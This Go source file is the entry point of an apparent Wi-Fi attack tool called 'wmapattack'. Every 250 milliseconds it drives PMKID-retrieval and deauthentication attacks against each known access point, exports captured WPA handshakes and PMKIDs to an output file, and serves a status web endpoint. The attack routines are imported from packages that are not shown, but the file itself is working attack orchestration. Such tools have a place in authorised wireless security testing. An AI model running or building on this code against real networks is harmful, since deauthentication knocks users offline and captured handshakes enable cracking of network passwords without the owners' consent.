package main

import (
	"context"
	"errors"
	"log"
	"log/slog"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/lcalzada-xor/wmapattack/internal/adapters/attack"
	"github.com/lcalzada-xor/wmapattack/internal/adapters/registry"
	"github.com/lcalzada-xor/wmapattack/internal/adapters/sniffer/handshake"
	"github.com/lcalzada-xor/wmapattack/internal/adapters/web"
	"github.com/lcalzada-xor/wmapattack/internal/config"
	"github.com/lcalzada-xor/wmapattack/internal/core/domain"
	"github.com/lcalzada-xor/wmapattack/internal/core/ports"
	"github.com/lcalzada-xor/wmapattack/internal/core/runtime"
	"github.com/lcalzada-xor/wmapattack/internal/telemetry"
)

// tickInterval is how often the attack engine walks the device registry
// and re-evaluates every known AP's state machine.
const tickInterval = 250 * time.Millisecond

func main() {
	logger := slog.New(slog.NewJSONHandler(os.Stdout, nil))
	slog.SetDefault(logger)

	ctx, cancel := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer cancel()

	slog.Info("wmapattack starting")

	cfg := config.Load()

	telemetry.InitMetrics()
	shutdownTracer, err := telemetry.InitTracer()
	if err != nil {
		log.Fatalf("failed to init tracer: %v", err)
	}
	defer func() {
		if err := shutdownTracer(context.Background()); err != nil {
			slog.Warn("tracer shutdown failed", slog.Any("error", err))
		}
	}()

	reg := registry.NewMemory()
	storage := handshake.NewStorage()
	sink := handshake.NewSink(cfg.Out, "")
	defer sink.Close()

	statusLog := runtime.NewSlogStatusLog(logger)
	transmitter := runtime.NewLogTransmitter(logger)

	rc := runtime.NewContext(reg, transmitter, statusLog, domain.SystemClock{}, cfg.RogueClient, cfg.Targets, cfg.NoTx)

	webHandler := web.NewHandler(reg, storage)
	httpServer := &http.Server{Addr: ":8080", Handler: webHandler.Router()}
	go func() {
		slog.Info("status endpoint listening", slog.String("addr", httpServer.Addr))
		if err := httpServer.ListenAndServe(); err != nil && !errors.Is(err, http.ErrServerClosed) {
			slog.Error("status endpoint failed", slog.Any("error", err))
		}
	}()

	runTickLoop(ctx, rc, reg, storage, sink)

	slog.Info("shutting down")
	shutdownCtx, shutdownCancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer shutdownCancel()
	if err := httpServer.Shutdown(shutdownCtx); err != nil {
		slog.Warn("status endpoint shutdown failed", slog.Any("error", err))
	}
}

// runTickLoop walks every known AP on each tick, driving the PMKID and
// deauth attacks and exporting any handshake that has become complete or
// carries a PMKID since the last tick.
func runTickLoop(ctx context.Context, rc *runtime.Context, reg *registry.Memory, storage *handshake.Storage, sink *handshake.Sink) {
	ticker := time.NewTicker(tickInterval)
	defer ticker.Stop()

	// exported records each handshake already written to the sink: false
	// once its PMKID line went out, true once it was exported complete.
	exported := make(map[*handshake.FourWayHandshake]bool)

	for {
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
			for _, ap := range reg.All() {
				if err := attack.M1RetrievalAttack(ctx, rc, storage, ap.MAC); err != nil {
					rc.Log(ports.LevelWarning, "m1_retrieval_attack error: "+err.Error())
				}
				if err := attack.DeauthAttack(ctx, rc, storage, ap.MAC); err != nil {
					rc.Log(ports.LevelWarning, "deauth_attack error: "+err.Error())
				}

				for _, attempts := range storage.FindHandshakesByAP(ap.MAC) {
					for _, hs := range attempts {
						done, seen := exported[hs]
						switch {
						case done:
						case hs.Complete():
							sink.Export(hs)
							exported[hs] = true
						case hs.HasPmkidValue() && !seen:
							sink.Export(hs)
							exported[hs] = false
						}
					}
				}
			}
		}
	}
}
